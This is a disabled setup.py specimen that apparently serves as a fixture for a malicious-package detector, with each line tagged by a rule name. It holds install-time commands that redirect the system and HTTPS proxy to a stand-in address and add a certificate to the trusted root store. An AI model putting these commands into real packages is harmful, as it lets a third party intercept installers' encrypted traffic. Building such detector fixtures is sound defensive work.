raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

os.environ["HTTPS_PROXY"] = "http://192.0.2.7:8080"  # match: proxy-change  # match: bare-address
os.system("netsh winhttp set proxy 192.0.2.7:8080")  # match: proxy-change  # match: process-at-install
os.system("certutil -addstore root specimen.cer")  # match: proxy-change  # match: process-at-install
setup(name="specimen")
